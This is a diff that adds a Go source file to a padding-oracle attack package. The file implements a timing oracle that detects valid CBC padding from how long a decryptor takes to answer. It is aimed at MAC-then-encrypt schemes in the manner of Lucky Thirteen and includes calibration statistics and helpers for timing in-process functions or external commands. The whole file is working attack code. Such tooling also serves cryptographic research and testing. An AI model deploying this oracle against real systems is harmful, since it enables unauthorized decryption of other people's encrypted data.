@@ -0,0 +1,199 @@
+package paddingoracle
+
+import (
+	"errors"
+	"math"
+	"sort"
+	"time"
+)
+
+// ErrNoSignal is returned by Calibrate when valid and invalid padding
+// cannot be told apart by their timings, or not with the samples allowed.
+var ErrNoSignal = errors.New("paddingoracle: timings do not tell valid from invalid padding")
+
+// ErrNotCalibrated is returned by a TimingOracle queried before Calibrate.
+var ErrNotCalibrated = errors.New("paddingoracle: timing oracle is not calibrated")
+
+// ErrSamples is returned by a TimingOracle whose Samples is negative, or
+// zero when it comes to a query.
+var ErrSamples = errors.New("paddingoracle: timing oracle needs at least one sample per query")
+
+// Target runs a decryptor once on C and reports how long it took. What
+// the decryptor answers does not matter, only how long it took to answer.
+type Target func(C []byte) (time.Duration, error)
+
+// TimeFunc times an in-process decryptor.
+func TimeFunc(f func(C []byte)) Target {
+	return func(C []byte) (time.Duration, error) {
+		start := time.Now()
+		f(C)
+		return time.Since(start), nil
+	}
+}
+
+// TimeCommand times a command run as CommandOracle runs it, with "{}" in
+// args replaced by the path of a file holding C. Only the command is
+// timed, not writing the file.
+func TimeCommand(name string, args ...string) Target {
+	return func(C []byte) (time.Duration, error) {
+		var elapsed time.Duration
+		_, err := runCommand(name, args, C, &elapsed)
+		return elapsed, err
+	}
+}
+
+// maxSamples bounds the timings per query Calibrate will settle for; a
+// signal that needs more is treated as none.
+const maxSamples = 2000
+
+// calibrationPairs is how many valid and invalid timings Calibrate takes
+// when it has to choose Samples itself.
+const calibrationPairs = 400
+
+// TimingOracle tells valid padding from invalid by how long Target takes,
+// for decryptors that report every failure the same way but only compute
+// the MAC once the padding checks out, as encrypt-auth's MAC-then-encrypt
+// does (Lucky Thirteen). The MAC work grows with the message, so the
+// difference is easiest to see with queries behind a long prefix of
+// blocks, see Wrap.
+//
+// Each timing is paired with one of a reference ciphertext with invalid
+// padding and the same length, taken right before it, so that the machine
+// getting faster or slower over a long attack cancels out. A query takes
+// the median of Samples differences, and one that comes out above
+// Threshold is timed again before it counts as valid, since a false
+// positive costs far more than a retry.
+type TimingOracle struct {
+	Target Target
+
+	// Samples is the number of timings per query. Zero lets Calibrate
+	// choose it.
+	Samples int
+
+	// Set by Calibrate: how much longer valid padding takes than invalid,
+	// the point half way, and the number of samples a query needs for its
+	// median to be three standard errors from Threshold.
+	Gap       time.Duration
+	Threshold time.Duration
+	Needed    int
+
+	reference []byte
+}
+
+// pair times the reference and then C, and returns the difference.
+func (o *TimingOracle) pair(C []byte) (time.Duration, error) {
+	r, err := o.Target(o.reference)
+	if err != nil {
+		return 0, err
+	}
+	t, err := o.Target(C)
+	return t - r, err
+}
+
+// median takes the median of Samples pairs.
+func (o *TimingOracle) median(C []byte) (time.Duration, error) {
+	if o.Samples < 1 {
+		return 0, ErrSamples
+	}
+	timings := make([]time.Duration, o.Samples)
+	for i := range timings {
+		t, err := o.pair(C)
+		if err != nil {
+			return 0, err
+		}
+		timings[i] = t
+	}
+	sortDurations(timings)
+	return timings[len(timings)/2], nil
+}
+
+// Query reports whether C took long enough to have had valid padding. It
+// must be the same length as the ciphertext given to Calibrate.
+func (o *TimingOracle) Query(C []byte) (bool, error) {
+	if o.reference == nil {
+		return false, ErrNotCalibrated
+	}
+	if len(C) != len(o.reference) {
+		return false, ErrLength
+	}
+	for i := 0; i < 2; i++ {
+		t, err := o.median(C)
+		if err != nil || t <= o.Threshold {
+			return false, err
+		}
+	}
+	return true, nil
+}
+
+// Calibrate sets Threshold from C, which must have valid padding, e.g. the
+// last two blocks of the target ciphertext behind the same prefix the
+// queries will have. Invalid padding, for the reference and for
+// calibration, comes from C with the last byte of its second to last
+// block changed, which almost always breaks it.
+//
+// The median of k timings has a standard error of about 0.93 times their
+// interquartile range over √k. Calibrate works out the k that puts both
+// medians three standard errors from Threshold and, when Samples is zero,
+// uses it. It returns ErrNoSignal when valid padding is not slower, when
+// that would take more than 2000 samples, or when a Samples that was set
+// is below it.
+func (o *TimingOracle) Calibrate(C []byte) error {
+	if len(C) < 2*BlockSize {
+		return ErrLength
+	}
+	if o.Samples < 0 {
+		return ErrSamples
+	}
+	o.reference = append([]byte{}, C...)
+	o.reference[len(C)-BlockSize-1] ^= 0x80
+
+	n := 4 * o.Samples
+	if o.Samples == 0 {
+		n = calibrationPairs
+	}
+	valid := make([]time.Duration, n)
+	invalid := make([]time.Duration, n)
+	for i := 0; i < n; i++ {
+		t, err := o.pair(C)
+		if err != nil {
+			return err
+		}
+		valid[i] = t
+
+		bad := append([]byte{}, C...)
+		bad[len(bad)-BlockSize-1] ^= byte(1 + i%255)
+		if t, err = o.pair(bad); err != nil {
+			return err
+		}
+		invalid[i] = t
+	}
+	sortDurations(valid)
+	sortDurations(invalid)
+
+	o.Gap, o.Threshold, o.Needed = valid[n/2]-invalid[n/2], 0, 0
+	if o.Gap <= 0 {
+		return ErrNoSignal
+	}
+	spread := valid[3*n/4] - valid[n/4]
+	if s := invalid[3*n/4] - invalid[n/4]; s > spread {
+		spread = s
+	}
+	// No spread at all, from a coarse clock or a deterministic target,
+	// still needs one sample
+	o.Needed = int(math.Ceil(math.Pow(3*0.93*float64(spread)/float64(o.Gap/2), 2)))
+	if o.Needed < 1 {
+		o.Needed = 1
+	}
+	if o.Needed > maxSamples || o.Samples != 0 && o.Samples < o.Needed {
+		return ErrNoSignal
+	}
+	if o.Samples == 0 {
+		o.Samples = o.Needed
+	}
+	o.Threshold = invalid[n/2] + o.Gap/2
+	return nil
+}
+
+func sortDurations(d []time.Duration) {
+	sort.Slice(d, func(i, j int) bool { return d[i] < d[j] })
+}